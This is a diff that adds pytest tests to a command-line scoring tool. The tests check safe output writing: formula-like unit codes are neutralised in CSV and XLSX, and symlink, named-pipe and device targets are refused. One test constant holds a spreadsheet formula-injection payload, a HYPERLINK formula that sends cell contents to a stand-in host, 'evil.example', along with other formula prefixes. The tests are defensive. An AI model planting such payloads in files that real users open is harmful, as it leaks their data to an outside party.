@@ -7,6 +7,7 @@ import io
 import json
 import os
 import shutil
+import stat
 import textwrap
 from pathlib import Path
 
@@ -301,3 +302,110 @@ def test_an_output_that_is_a_folder_is_a_clear_error_and_nothing_is_left(folder,
     assert captured.err.startswith(f"{folder / 'out'}: cannot write the file: ")
     assert "Traceback" not in captured.err
     assert sorted(path.name for path in folder.iterdir()) == ["commune.yaml", "out", "values.csv"]
+
+
+# -- the results file is written safely (issue 7, items 6 and 8) --------------
+
+# A unit code from a values file someone sent: a spreadsheet would run it.
+HOSTILE_UNIT = '=HYPERLINK("http://evil.example/?"&A1,"bấm")'
+
+
+def hostile_values(folder: Path) -> Path:
+    values = folder / "hostile.csv"
+    with values.open("w", encoding="utf-8", newline="") as stream:
+        writer = csv.writer(stream)
+        writer.writerow(["unit", "code", "value"])
+        for unit in (HOSTILE_UNIT, "+1", "-2", "@SUM(A1)", "14758"):
+            writer.writerow([unit, "CQS.2", "có"])
+    return values
+
+
+def test_a_unit_code_that_looks_like_a_formula_is_written_to_csv_as_text(folder):
+    output = folder / "results.csv"
+    assert run(folder, "score", folder / "commune.yaml", hostile_values(folder), "-o", output) == 0
+    units = {row["unit"] for row in rows_of(output.read_text(encoding="utf-8"))}
+    assert units == {f"'{HOSTILE_UNIT}", "'+1", "'-2", "'@SUM(A1)", "14758"}
+
+
+def test_a_unit_code_that_looks_like_a_formula_is_a_text_cell_in_xlsx(folder):
+    output = folder / "results.xlsx"
+    assert run(folder, "score", folder / "commune.yaml", hostile_values(folder), "-o", output) == 0
+    sheet = openpyxl.load_workbook(output)["results"]
+    cells = {sheet.cell(row=row, column=1).value: sheet.cell(row=row, column=1).data_type
+             for row in range(2, sheet.max_row + 1)}  # fmt: skip
+    assert cells[HOSTILE_UNIT] == "s"
+    assert set(cells.values()) == {"s"}
+    # The figures stay numbers.
+    assert sheet.cell(row=2, column=2).data_type == "n"
+
+
+def test_the_output_goes_through_a_temporary_file_renamed_into_place(folder, monkeypatch):
+    output = folder / "results.csv"
+    output.write_text("last year's results\n", encoding="utf-8")
+    replaced: list[tuple[str, str]] = []
+    real_replace = os.replace
+
+    def replace(source, target):
+        replaced.append((str(source), str(target)))
+        # The target is untouched until the complete file is renamed over it.
+        assert output.read_text(encoding="utf-8") == "last year's results\n"
+        assert Path(source).read_text(encoding="utf-8").startswith("unit,value")
+        real_replace(source, target)
+
+    monkeypatch.setattr(os, "replace", replace)
+    assert run(folder, "score", folder / "commune.yaml", folder / "values.csv", "-o", output) == 0
+    [(source, target)] = replaced
+    assert Path(source).parent == folder and target == str(output)
+    assert output.read_text(encoding="utf-8").startswith("unit,value")
+
+
+def test_an_output_that_is_a_symlink_is_refused_and_its_target_kept(folder, capsys):
+    precious = folder / "precious.txt"
+    precious.write_text("do not touch\n", encoding="utf-8")
+    link = folder / "results.csv"
+    link.symlink_to(precious)
+    assert run(folder, "score", folder / "commune.yaml", folder / "values.csv", "-o", link) == 2
+    assert capsys.readouterr().err == (
+        f"{link}: cannot write the file: it is a symbolic link, not a regular file\n"
+    )
+    assert link.is_symlink() and precious.read_text(encoding="utf-8") == "do not touch\n"
+    assert sorted(path.name for path in folder.iterdir()) == [
+        "commune.yaml", "precious.txt", "results.csv", "values.csv",
+    ]  # fmt: skip
+
+
+def test_an_output_that_is_a_fifo_is_refused_and_left_in_place(folder, capsys):
+    fifo = folder / "results.csv"
+    os.mkfifo(fifo)
+    assert run(folder, "score", folder / "commune.yaml", folder / "values.csv", "-o", fifo) == 2
+    assert capsys.readouterr().err == (
+        f"{fifo}: cannot write the file: it is a named pipe, not a regular file\n"
+    )
+    assert fifo.is_fifo()
+    assert sorted(path.name for path in folder.iterdir()) == [
+        "commune.yaml", "results.csv", "values.csv",
+    ]  # fmt: skip
+
+
+def a_character_device(folder: Path) -> Path:
+    """A null device in the test's own folder (root may create one); else /dev/null,
+    which only root could replace, so a mistake here can never touch the real one."""
+    device = folder / "null"
+    try:
+        os.mknod(device, stat.S_IFCHR | 0o666, os.makedev(1, 3))
+    except PermissionError:
+        return Path("/dev/null")
+    return device
+
+
+def test_an_output_that_is_a_device_is_refused(folder, capsys):
+    device = a_character_device(folder)
+    before = os.lstat(device)
+    assert run(folder, "score", folder / "commune.yaml", folder / "values.csv", "-o", device) == 2
+    assert capsys.readouterr().err == (
+        f"{device}: cannot write the file: it is a device, not a regular file\n"
+    )
+    after = os.lstat(device)
+    assert stat.S_ISCHR(after.st_mode)
+    assert (after.st_ino, after.st_rdev) == (before.st_ino, before.st_rdev)
+    assert not [path for path in device.parent.iterdir() if path.name.startswith(f".{device.name}")]
